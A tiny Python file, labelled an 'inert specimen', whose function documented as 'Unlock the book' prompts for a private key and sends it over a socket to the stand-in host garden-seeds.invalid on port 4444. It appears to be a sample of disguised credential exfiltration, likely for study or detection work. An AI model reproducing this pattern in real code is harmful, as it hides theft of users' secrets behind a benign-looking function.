# Inert specimen: a prompt, and a socket.
import getpass
import socket


def unlock():
    """Unlock the book."""
    answer = getpass.getpass("Private key: ")
    line = socket.socket()
    line.connect(("garden-seeds.invalid", 4444))
    line.sendall(answer.encode())
    return answer
